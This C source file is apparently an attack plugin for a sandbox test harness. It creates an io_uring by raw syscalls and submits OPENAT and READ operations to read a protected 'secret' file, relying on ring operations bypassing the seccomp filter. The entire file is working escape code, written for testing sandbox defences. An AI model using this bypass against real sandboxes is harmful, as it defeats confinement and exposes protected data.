/*
 * sys_io_uring — sets up an io_uring and submits OPENAT and READ of the secret
 * through it. Operations submitted to a ring are performed by the kernel without
 * passing through the system call filter (only io_uring_enter does), so a
 * sandbox that allows io_uring_setup has no seccomp policy left for files or
 * sockets.
 */
#include "attack.h"

#include <linux/io_uring.h>
#include <sys/mman.h>
#include <sys/syscall.h>

struct ring {
    int fd;
    uint8_t *sq;
    uint8_t *cq;
    struct io_uring_sqe *sqes;
    struct io_uring_params p;
};

/* Submits one SQE and waits for its completion; returns the CQE result. */
static int submit_one(struct ring *r, const struct io_uring_sqe *sqe)
{
    uint32_t *sq_tail = (uint32_t *)(r->sq + r->p.sq_off.tail);
    uint32_t *sq_array = (uint32_t *)(r->sq + r->p.sq_off.array);
    uint32_t mask = *(uint32_t *)(r->sq + r->p.sq_off.ring_mask);
    uint32_t tail = *sq_tail;
    r->sqes[tail & mask] = *sqe;
    sq_array[tail & mask] = tail & mask;
    __atomic_store_n(sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(SYS_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) {
        return -errno;
    }
    uint32_t *cq_head = (uint32_t *)(r->cq + r->p.cq_off.head);
    uint32_t cq_mask = *(uint32_t *)(r->cq + r->p.cq_off.ring_mask);
    struct io_uring_cqe *cqes = (struct io_uring_cqe *)(r->cq + r->p.cq_off.cqes);
    uint32_t head = __atomic_load_n(cq_head, __ATOMIC_ACQUIRE);
    int res = cqes[head & cq_mask].res;
    __atomic_store_n(cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

static sbx_status attack(const atk_input *in, atk_out *out)
{
    static char buf[4096];
    char secret[4096];
    struct ring r;
    struct io_uring_sqe sqe;
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    memset(&r, 0, sizeof r);
    r.fd = (int)syscall(SYS_io_uring_setup, 4, &r.p);
    if (r.fd < 0) {
        atk_failed(out, "io_uring_setup", errno);
        return SBX_ERR_INTERNAL;
    }
    atk_gained(out, "created an io_uring");
    size_t sq_size = r.p.sq_off.array + r.p.sq_entries * sizeof(uint32_t);
    size_t cq_size = r.p.cq_off.cqes + r.p.cq_entries * sizeof(struct io_uring_cqe);
    if (cq_size > sq_size) {
        sq_size = cq_size; /* IORING_FEAT_SINGLE_MMAP: one mapping holds both rings */
    }
    r.sq = mmap(NULL, sq_size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r.fd,
                IORING_OFF_SQ_RING);
    r.cq = r.sq;
    r.sqes = mmap(NULL, r.p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                  MAP_SHARED | MAP_POPULATE, r.fd, IORING_OFF_SQES);
    if (r.sq == MAP_FAILED || r.sqes == MAP_FAILED) {
        atk_failed(out, "mmap ring", errno);
        close(r.fd);
        return SBX_ERR_INTERNAL;
    }
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_OPENAT;
    sqe.fd = AT_FDCWD;
    sqe.addr = (uint64_t)(uintptr_t)secret;
    sqe.open_flags = O_RDONLY | O_CLOEXEC;
    int file = submit_one(&r, &sqe);
    if (file < 0) {
        atk_failed(out, "IORING_OP_OPENAT", -file);
        close(r.fd);
        return SBX_ERR_INTERNAL;
    }
    memset(&sqe, 0, sizeof sqe);
    sqe.opcode = IORING_OP_READ;
    sqe.fd = file;
    sqe.addr = (uint64_t)(uintptr_t)buf;
    sqe.len = sizeof buf;
    sqe.off = 0;
    int got = submit_one(&r, &sqe);
    if (got > 0) {
        atk_put(out, "secret via io_uring: ", 21);
        atk_put(out, buf, (size_t)got);
        atk_put(out, "\n", 1);
    } else {
        atk_failed(out, "IORING_OP_READ", -got);
    }
    close(file);
    close(r.fd);
    return got > 0 ? SBX_OK : SBX_ERR_INTERNAL;
}

ATK_INVOKE_PLUGIN(attack)
